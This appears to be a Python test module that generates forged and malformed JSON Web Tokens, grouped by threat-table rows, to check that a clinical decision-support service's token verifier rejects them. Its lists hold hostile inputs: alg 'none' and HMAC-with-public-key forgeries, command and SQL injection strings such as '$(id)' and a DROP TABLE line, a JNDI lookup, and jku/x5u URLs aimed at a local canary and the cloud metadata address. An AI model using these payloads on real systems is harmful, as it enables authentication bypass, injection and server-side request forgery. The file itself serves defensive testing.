"""Tokens that nobody may get in with, by the row of the threat table that they belong to."""

import hmac
import json
import random
import socket
import string
import uuid
import zlib
from collections.abc import Callable
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from tests.tokens import BASE, DISCOVERY, FEEDBACK, NOW, SERVICE, Json, Signer, b64, ec_key, rsa_key, signature


class Canary:
    """A listener that nobody has a reason to call."""

    def __init__(self) -> None:
        self._socket = socket.socket()
        self._socket.bind(("127.0.0.1", 0))
        self._socket.listen(1000)
        self._socket.setblocking(False)
        self.host = f"127.0.0.1:{self._socket.getsockname()[1]}"

    def calls(self) -> int:
        """How many have called since this was last asked."""
        for count in range(1000):
            try:
                self._socket.accept()[0].close()
            except BlockingIOError:
                return count
        return 1000

    def close(self) -> None:
        self._socket.close()


class Scene:
    """Who attacks whom: the issuer whose rights are wanted, another listed one, and somebody with a key of their own."""

    def __init__(
        self, canary: Canary, signer: Signer, other: Signer, path: str = SERVICE, base: str = BASE, now: int = NOW
    ) -> None:
        self.canary, self.signer, self.other = canary, signer, other
        self.path, self.aud, self.now = path, base + path, now
        self.base = base
        self.stranger = Signer(signer.iss, "ES384", signer.kid)

    def token(self, claims: Json | None = None, header: Json | None = None, key: Any = None, alg: str = "") -> str:
        """A token of the issuer that is sound but for the changes."""
        return self.signer.token(
            self.signer.claims(self.path, self.base, self.now, **(claims or {})), self.signer.header(**(header or {})), key, alg
        )

    def unsigned(self, **header: Any) -> str:
        return self.token(header=header).rpartition(".")[0] + "."

    def worded(self, claims: str = "{}", header: str | None = None) -> str:
        """A token whose claims are this text; ``CLAIMS`` in it stands for those of a sound token."""
        sound = json.dumps(self.signer.claims(self.path, self.base, self.now))[1:-1]
        return self.signer.token(claims.replace("CLAIMS", sound), header)

    def public(self) -> dict[str, bytes]:
        """What an attacker knows of the key, as bytes that could be taken for a shared secret."""
        key, form = self.signer.key.public_key(), serialization.PublicFormat.SubjectPublicKeyInfo
        pem, der = (key.public_bytes(one, form) for one in (serialization.Encoding.PEM, serialization.Encoding.DER))
        raw = "".join(self.signer.jwk()[name] for name in ("x", "y")) if "x" in self.signer.jwk() else self.signer.jwk()["n"]
        return {
            "PEM": pem,
            "PEM without its last newline": pem.strip(),
            "DER": der,
            "JWK": json.dumps(self.signer.jwk()).encode(),
            "key set": self.signer.key_set(),
            "numbers": raw.encode(),
            "id": self.signer.kid.encode(),
            "nothing": b"\0",
        }

    def shared(self, alg: str, form: str) -> str:
        """A token whose authentication code is keyed with the public key."""
        message = self.unsigned(alg=alg)[:-1]
        digest = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}[alg]
        return f"{message}.{b64(hmac.new(self.public()[form], message.encode(), digest).digest())}"


Attack = Callable[[Scene], str]


def told(value: Any, about: Any) -> Any:
    """The value, or what it is for a scene or a time."""
    return value(about) if callable(value) else value


def of(make: Callable[..., str], *values: Any) -> Attack:
    """The attack that is made with these values."""
    return lambda scene: make(scene, *values)


def none_or_empty() -> dict[str, Attack]:
    spellings = ("none", "None", "NONE", "nOnE", "NoNe", "none ", " none", "", "null", "NULL", "0", "no\0ne")
    found: dict[str, Attack] = {f"alg {alg!r}": of(lambda s, alg: s.unsigned(alg=alg), alg) for alg in spellings}
    for value in (None, 0, True, [], {}, ["none"], ["ES384"], {"alg": "none"}):
        found[f"alg {value!r} by type"] = of(lambda s, alg: s.unsigned(alg=alg), value)
    for alg in spellings[:2]:
        found[f"alg {alg!r} with a signature"] = of(lambda s, alg: s.token(header={"alg": alg}), alg)
    found |= {
        "no alg": lambda s: s.token(header={"alg": ...}),
        "signature cut off": lambda s: s.unsigned(),
        "signature and its dot cut off": lambda s: s.unsigned()[:-1],
        "signature of zeros": lambda s: s.unsigned() + b64(bytes(96)),
        "signature of ones": lambda s: s.unsigned() + b64(b"\xff" * 96),
        "signature r zero": lambda s: s.unsigned() + b64(bytes(48) + b"\1" * 48),
        "signature in DER": lambda s: s.unsigned() + b64(s.signer.key.sign(*_der(s))) if s.signer.alg[0] == "E" else s.unsigned(),
        "signature one byte short": lambda s: s.token()[:-2],
        "signature twice": lambda s: s.token() + s.token().rpartition(".")[2],
        "signature of another token": lambda s: s.unsigned() + s.token().rpartition(".")[2],
    }
    return found


def _der(scene: Scene) -> tuple[Any, ...]:
    return scene.unsigned()[:-1].encode(), ec.ECDSA(hashes.SHA384())


def symmetric() -> dict[str, Attack]:
    forms = ("PEM", "PEM without its last newline", "DER", "JWK", "key set", "numbers", "id", "nothing")
    return {
        f"{alg} with {form}": of(lambda s, alg, form: s.shared(alg, form), alg, form)
        for alg in ("HS256", "HS384", "HS512")
        for form in forms
    }


def other_algorithms() -> dict[str, Attack]:
    found: dict[str, Attack] = {}
    for alg in ("ES512", "ES256K", "EdDSA", "PS256", "PS512", "RS512", "es384", "ES384 ", "RSA1_5", "dir", "A128GCM"):
        found[f"alg {alg!r} over our own signature"] = of(lambda s, alg: s.token(header={"alg": alg}), alg)
    for alg in ("RS256", "RS384", "PS384", "ES256", "ES384"):
        found[f"said to be {alg}, the key is another's kind"] = of(
            lambda s, alg: s.token(
                header={"alg": alg}, key=rsa_key() if alg[0] == "E" else ec_key(), alg="RS384" if alg[0] == "E" else "ES384"
            ),
            alg,
        )
    return found


def key_ids() -> dict[str, Attack]:
    words = (
        "../../dev/null",
        "/etc/passwd",
        "file:///etc/passwd",
        "' OR 1=1 --",
        "'; DROP TABLE used_token; --",
        "$(id)",
        "`id`",
        "|id",
        "%00",
        "a\0b",
        "x" * 3000,
        "\u202e1-yek",
        "KEY-1",
        "key-1 ",
        " key-1",
        "key-1\n",
        "key-1\0",
        "kéy-1",
        "*",
        "(cn=*)",
        "{{7*7}}",
        "${jndi:ldap://CANARY/a}",
        "http://CANARY/key",
        "key-2",
        "unknown",
        str(uuid.UUID(int=7)),
        "1",
        "None",
        "null",
    )
    found: dict[str, Attack] = {
        f"kid {word[:24]!r}": of(lambda s, word: s.token(header={"kid": word.replace("CANARY", s.canary.host)}), word)
        for word in words
    }
    for kid in (..., "", None, 0, 1, True, 1.5, ["key-1"], {"kid": "key-1"}, []):
        found[f"kid {kid!r} by type"] = of(lambda s, kid: s.token(header={"kid": kid}), kid)
    found |= {
        "right kid, a stranger's key": lambda s: s.token(key=s.stranger.key, alg="ES384", header={"alg": "ES384"}),
        "kid twice": lambda s: s.signer.token(
            s.signer.claims(s.path, s.base, s.now), '{"alg":"ES384","typ":"JWT","kid":"x","kid":"key-1"}'
        ),
        "the other issuer's kid": lambda s: s.token(header={"kid": s.other.kid + "-other"}),
    }
    return found


def offered_keys() -> dict[str, Attack]:
    """Keys and where to get them, in the header; signed with what is offered."""
    places = (
        "http://CANARY/jwks.json",
        "https://CANARY/jwks.json",
        "http://a.example.org@CANARY/",
        "http://CANARY#a.example.org",
        "http://CANARY\\@a.example.org/jwks.json",
        "file:///etc/passwd",
        "ftp://CANARY/",
        "gopher://CANARY/",
        "//CANARY/jwks.json",
        "https://a.example.org.evil.example/jwks.json",
        "https://A.example.org/jwks.json",
        "https://a.example.org:444/jwks.json",
        "https://a.example.org/../jwks.json",
        "https://a.example.org//jwks.json",
        "https://a.example.org/jwks.json?x=http://CANARY",
        "https://a.example.org/jwks.json#",
        "https://a.example.org/jwks.json/",
        "https://a.example.org/jwks.json ",
        "https://a.example.org/redirect?to=http://CANARY/",
        "http://0.0.0.0/",
        "http://169.254.169.254/latest",
        "data:application/json,{}",
        "",
    )
    found: dict[str, Attack] = {}
    for place in places:
        for name in ("jku", "x5u"):
            found[f"{name} {place!r}"] = of(
                lambda s, name, place: s.token(
                    header={name: place.replace("CANARY", s.canary.host)}, key=s.stranger.key, alg="ES384"
                ),
                name,
                place,
            )
        found[f"jku {place!r} with the right key"] = of(
            lambda s, place: s.token(header={"jku": place.replace("CANARY", s.canary.host)}), place
        )
    odd: tuple[Any, ...] = (5, None, [], {}, True, ["https://a.example.org/jwks.json"])
    for value in odd:
        found[f"jku {value!r} by type"] = of(lambda s, value: s.token(header={"jku": value}), value)
    found |= {
        "jwk": lambda s: s.token(header={"jwk": s.stranger.jwk()}, key=s.stranger.key, alg="ES384"),
        "jwk of another id": lambda s: s.token(
            header={"kid": "n", "jwk": s.stranger.jwk(kid="n")}, key=s.stranger.key, alg="ES384"
        ),
        "jwk as text": lambda s: s.token(header={"jwk": json.dumps(s.stranger.jwk())}, key=s.stranger.key, alg="ES384"),
        "x5c": lambda s: s.token(header={"x5c": ["MIIB"]}, key=s.stranger.key, alg="ES384"),
        "x5t": lambda s: s.token(header={"x5t": "MIIB"}, key=s.stranger.key, alg="ES384"),
        "iss is the stranger's": lambda s: s.token({"iss": f"http://{s.canary.host}"}, key=s.stranger.key, alg="ES384"),
    }
    return found


def times() -> dict[str, Attack]:
    changes: dict[str, Any] = {
        "exp a second ago": lambda now: {"exp": now - 1},
        "exp now": lambda now: {"exp": now},
        "exp a fraction ago": lambda now: {"exp": now - 0.001},
        "exp an hour ago": lambda now: {"exp": now - 3600, "iat": now - 3700},
        "exp in 1970": {"exp": 0},
        "exp before 1970": {"exp": -1},
        "exp in ten years": lambda now: {"exp": now + 315_360_000},
        "exp beyond the longest life": lambda now: {"exp": now + 3601},
        "exp beyond the longest life, made earlier": lambda now: {"iat": now - 3000, "exp": now + 601},
        "exp in milliseconds": lambda now: {"exp": (now + 300) * 1000},
        "exp and iat in milliseconds": lambda now: {"iat": now * 1000, "exp": (now + 300) * 1000},
        "exp 10**30": {"exp": 10**30},
        "exp 1e300": {"exp": 1e300},
        "all times far away": {"exp": 10**12 + 300, "iat": 10**12},
        "iat in two minutes": lambda now: {"iat": now + 120},
        "iat a fraction beyond the leeway": lambda now: {"iat": now + 60.001},
        "iat in a year": lambda now: {"iat": now + 31_536_000, "exp": now + 31_536_300},
        "iat 10**400": {"iat": -(10**400)},
        "nbf in two minutes": lambda now: {"nbf": now + 120},
        "nbf in 5138": {"nbf": 10**11},
        "exp before iat": lambda now: {"exp": now - 100, "iat": now - 50},
    }
    found: dict[str, Attack] = {
        name: of(lambda s, change: s.token(told(change, s.now)), change) for name, change in changes.items()
    }
    wrong: tuple[Any, ...] = (..., None, True, False, "", "x", "1e400", "9999999999", [], [1], {}, "NaN", "now")
    for name in ("exp", "iat"):
        for value in wrong:
            found[f"{name} {value!r} by type"] = of(lambda s, name, value: s.token({name: value}), name, value)
    for value in wrong[1:]:
        found[f"nbf {value!r} by type"] = of(lambda s, value: s.token({"nbf": value}), value)
    for name in ("exp", "iat", "nbf"):
        for number in (
            "1e400",
            "-1e400",
            "NaN",
            "Infinity",
            "-Infinity",
            "0x7fffffff",
            "01900000300",
            "1_900_000_300",
            "+1900000300",
            "9" * 5000,
        ):
            found[f"{name} {number[:20]} as a number"] = of(
                lambda s, name, number: s.worded(
                    "{" + f'"{name}": {number}, ' + json.dumps(s.signer.claims(s.path, s.base, s.now, **{name: ...}))[1:]
                ),
                name,
                number,
            )
    for name in ("exp", "iat"):
        found[f"{name} as text of the right time"] = of(lambda s, name: s.token({name: str(s.now + 30)}), name)
    return found


def audiences() -> dict[str, Attack]:
    """Everything but the address called, in its letters."""
    wrong: dict[str, Any] = {
        "the base": lambda s: s.base,
        "the base with a slash": lambda s: s.base + "/",
        "discovery": lambda s: s.base + DISCOVERY,
        "another service": lambda s: s.base + "/cds-services/tacrolimus-patient-view",
        "feedback": lambda s: s.base + FEEDBACK,
        "feedback of another service": lambda s: s.base + "/cds-services/tacrolimus-patient-view/feedback",
        "http": lambda s: s.aud.replace("https:", "http:"),
        "HTTPS": lambda s: s.aud.replace("https:", "HTTPS:"),
        "another host": lambda s: s.aud.replace("cds.", "cds2."),
        "host in capitals": lambda s: s.aud.replace("cds.example", "CDS.example"),
        "host with a dot": lambda s: s.aud.replace(".org", ".org."),
        "with the port": lambda s: s.aud.replace(".org", ".org:443"),
        "another port": lambda s: s.aud.replace(".org", ".org:8443"),
        "with a user": lambda s: s.aud.replace("://", "://user@"),
        "a prefix": lambda s: s.aud[:-1],
        "longer": lambda s: s.aud + "-x",
        "deeper": lambda s: s.aud + "/x",
        "query": lambda s: s.aud + "?a=b",
        "fragment": lambda s: s.aud + "#a",
        "blank before": lambda s: " " + s.aud,
        "blank after": lambda s: s.aud + " ",
        "newline after": lambda s: s.aud + "\n",
        "NUL after": lambda s: s.aud + "\0",
        "escaped letter": lambda s: s.aud.replace("/cds-services/", "/cds%2Dservices/"),
        "escaped slash": lambda s: s.aud.replace("/cds-services/", "/cds-services%2F"),
        "dots": lambda s: s.aud.replace("/cds-services/", "/cds-services/./"),
        "up and down": lambda s: s.aud.replace("/cds-services/", "/cds-services/x/../"),
        "backslash": lambda s: s.aud.replace("/cds-services/", "\\cds-services\\"),
        "path in capitals": lambda s: s.aud.upper(),
        "path only": lambda s: s.path,
        "id only": lambda s: s.path.rpartition("/")[2],
        "no scheme": lambda s: s.aud.removeprefix("https:"),
        "three slashes": lambda s: s.aud.replace("https://", "https:///"),
        "a look-alike": lambda s: s.aud.replace("cds.example.org", "cds.exаmple.org"),  # noqa: RUF001 - that is the attack
        "two in one": lambda s: f"{s.aud} {s.aud}",
        "comma list": lambda s: f"{s.aud},x",
        "the issuer": lambda s: s.signer.iss,
        "any": "*",
        "pattern": lambda s: s.base + "/.*",
        "empty": "",
        "absent": ...,
        "null": None,
        "number": 5,
        "true": True,
        "object": lambda s: {"aud": s.aud},
        "empty list": [],
        "list of others": lambda s: ["x", s.base],
        "list in a list": lambda s: [[s.aud]],
        "list with null": lambda s: [s.aud, None],
        "list with a number": lambda s: [s.aud, 5],
        "list with an object": lambda s: [{"aud": s.aud}],
    }
    return {name: of(lambda s, aud: s.token({"aud": told(aud, s)}), aud) for name, aud in wrong.items()}


def impostors() -> dict[str, Attack]:
    names: dict[str, Any] = {
        "not listed": "https://unlisted.example.org",
        "with a slash": lambda s: s.signer.iss + "/",
        "in capitals": lambda s: s.signer.iss.upper(),
        "http": lambda s: s.signer.iss.replace("https", "http"),
        "blank after": lambda s: s.signer.iss + " ",
        "NUL after": lambda s: s.signer.iss + "\0",
        "empty": "",
        "absent": ...,
        "null": None,
        "number": 5,
        "list": lambda s: [s.signer.iss],
        "object": lambda s: {"iss": s.signer.iss},
        "the other issuer": lambda s: s.other.iss,
        "our own URL": lambda s: s.base,
    }
    found: dict[str, Attack] = {
        f"iss {name}": of(lambda s, iss: s.token({"iss": told(iss, s)}), iss) for name, iss in names.items()
    }
    found |= {
        "the other's key, our name": lambda s: s.other.token(s.signer.claims(s.path, s.base, s.now), s.other.header()),
        "the other's key, our name and key id": lambda s: s.other.token(
            s.signer.claims(s.path, s.base, s.now), s.other.header(kid=s.signer.kid)
        ),
        "our key, the other's name and key id": lambda s: s.signer.token(
            s.other.claims(s.path, s.base, s.now), s.signer.header(kid=s.other.kid)
        ),
        "sub and azp of the other": lambda s: s.other.token(
            s.signer.claims(s.path, s.base, s.now, sub=s.other.iss, azp=s.other.iss), s.other.header()
        ),
        "iss twice": lambda s: s.worded('{"iss": "https://b.example.org", CLAIMS}'),
        "iss twice, ours last": lambda s: s.worded('{CLAIMS, "iss": "https://b.example.org"}'),
    }
    return found


def malformed() -> dict[str, Attack]:
    texts = {
        "empty": "",
        "a dot": ".",
        "two dots": "..",
        "one part": "abc",
        "two parts": "a.b",
        "three letters": "a.b.c",
        "four parts": "a.b.c.d",
        "five parts": "a.b.c.d.e",
        "words": "not a token",
        "quotes": '"a"."b"."c"',
        "JSON": "{}",
        "long": "a" * 20_000,
        "long parts": ".".join(["a" * 6000] * 3),
        "umlaut": "ä.ö.ü",
        "NUL": "a\0.b.c",
        "percent": "a%2Eb.c.d",
    }
    found: dict[str, Attack] = {f"text: {name}": of(lambda _, text: text, text) for name, text in texts.items()}
    edits: dict[str, Callable[[str], str]] = {
        "padded": lambda t: t + "==",
        "padded inside": lambda t: t.replace(".", "==.", 1),
        "blank inside": lambda t: t.replace(".", ". ", 1),
        "newline inside": lambda t: t[:20] + "\n" + t[20:],
        "dot after": lambda t: t + ".",
        "dot before": lambda t: "." + t,
        "dots doubled": lambda t: t.replace(".", ".."),
        "a fifth of it": lambda t: t[: len(t) // 5],
        "backwards": lambda t: t[::-1],
        "header gone": lambda t: t.partition(".")[2],
        "parts turned": lambda t: ".".join(t.split(".")[::-1]),
        "quoted": lambda t: f'"{t}"',
        "twice": lambda t: f"{t},{t}",
        "escaped": lambda t: t.replace(".", "%2E"),
        "wide dots": lambda t: t.replace(".", "\uff0e"),
    }
    found |= {f"a sound token, {name}": of(lambda s, edit: edit(s.token()), edit) for name, edit in edits.items()}
    bodies = {
        "no object": "[]",
        "text": '"x"',
        "number": "5",
        "null": "null",
        "empty": "",
        "blank": " ",
        "half": '{"iss": ',
        "two": "{CLAIMS}{}",
        "comma": "{CLAIMS,}",
        "single quotes": "{CLAIMS, 'a': 1}",
        "comment": "{CLAIMS /* x */}",
        "deep": "[" * 5000,
        "deep inside": '{CLAIMS, "a": ' + "[" * 200 + "]" * 200 + "}",
        "byte order mark": "\ufeff{CLAIMS}",
        "surrogate": '{CLAIMS, "a": "\\ud800"}',
        "doubled aud": '{"aud": "x", CLAIMS}',
        "doubled exp": '{CLAIMS, "exp": 99}',
        "doubled jti": '{CLAIMS, "jti": "x"}',
        "doubled alike": '{CLAIMS, "a": 1, "a": 1}',
        "doubled by escape": '{CLAIMS, "\\u0069ss": "x"}',
        "doubled inside": '{CLAIMS, "a": {"b": 1, "b": 2}}',
    }
    found |= {f"claims: {name}": of(lambda s, body: s.worded(body), body) for name, body in bodies.items()}
    heads = {
        "no object": "[]",
        "text": '"x"',
        "empty": "",
        "half": "{",
        "null": "null",
        "deep": "[" * 3000,
        "doubled alg": '{"alg":"none","alg":"ES384","typ":"JWT","kid":"key-1"}',
        "doubled typ": '{"alg":"ES384","typ":"JWT","typ":"JWT","kid":"key-1"}',
        "doubled elsewhere": '{"alg":"ES384","typ":"JWT","kid":"key-1","x":1,"x":1}',
        "byte order mark": '\ufeff{"alg":"ES384","typ":"JWT","kid":"key-1"}',
    }
    found |= {f"header: {name}": of(lambda s, head: s.worded("{CLAIMS}", head), head) for name, head in heads.items()}
    members: list[Json] = [
        {"typ": ...},
        {"typ": None},
        {"typ": ""},
        {"typ": "jwt"},
        {"typ": "at+jwt"},
        {"typ": "JWE"},
        {"typ": "JOSE"},
        {"typ": 1},
        {"typ": ["JWT"]},
        {"typ": "application/JWT"},
        {"typ": "JWT "},
        {"crit": ["x"], "x": 1},
        {"crit": []},
        {"crit": ["exp"]},
        {"crit": None},
        {"crit": ["b64"], "b64": False},
        {"b64": False},
        {"b64": True},
        {"zip": "DEF"},
        {"enc": "A128GCM"},
        {"enc": "A128GCM", "alg": "dir"},
    ]
    found |= {f"header with {change}": of(lambda s, change: s.token(header=change), change) for change in members}
    claims: list[Json] = [
        {"jti": ...},
        {"jti": None},
        {"jti": ""},
        {"jti": 5},
        {"jti": True},
        {"jti": ["x"]},
        {"jti": {}},
        {"tenant": None},
        {"tenant": 5},
        {"tenant": ["a"]},
        {"tenant": {}},
    ]
    found |= {f"claims with {change}": of(lambda s, change: s.token(change), change) for change in claims}
    found["deflated"] = _deflated
    found["deflated and said so"] = lambda s: _deflated(s, zip="DEF")
    found["latin-1"] = _latin
    return found


def _raw(scene: Scene, claims: bytes, **header: Any) -> str:
    message = f"{b64(json.dumps(scene.signer.header(**header)).encode())}.{b64(claims)}"
    return f"{message}.{b64(signature(message.encode(), scene.signer.key, scene.signer.alg))}"


def _deflated(scene: Scene, **header: Any) -> str:
    packer = zlib.compressobj(wbits=-15)
    claims = json.dumps(scene.signer.claims(scene.path, scene.base, scene.now)).encode()
    return _raw(scene, packer.compress(claims) + packer.flush(), **header)


def _latin(scene: Scene) -> str:
    claims = scene.signer.claims(scene.path, scene.base, scene.now, name="Müller")
    return _raw(scene, json.dumps(claims, ensure_ascii=False).encode("latin-1"))


ROWS: dict[str, dict[str, Attack]] = {
    "J1": none_or_empty(),
    "J2": symmetric() | other_algorithms(),
    "J3": key_ids(),
    "J4": offered_keys(),
    "J6": times(),
    "J7": audiences(),
    "J9": impostors(),
    "J11": malformed(),
}

ALL = [(row, name, attack) for row, attacks in ROWS.items() for name, attack in attacks.items()]


def mutants(token: str, count: int, seed: int = 1) -> list[str]:
    """A sound token with one character exchanged, taken out, put in, or two turned; never the token itself."""
    chance = random.Random(seed)  # noqa: S311 - the same ones each time
    letters = string.ascii_letters + string.digits + "-_.=+/ "
    found: list[str] = []
    while len(found) < count:
        at, how, letter = chance.randrange(len(token)), chance.randrange(4), chance.choice(letters)
        mutant = (
            token[:at] + letter + token[at + 1 :],
            token[:at] + token[at + 1 :],
            token[:at] + letter + token[at:],
            token[:at] + token[at : at + 2][::-1] + token[at + 2 :],
        )[how]
        if mutant != token:
            found.append(mutant)
    return found
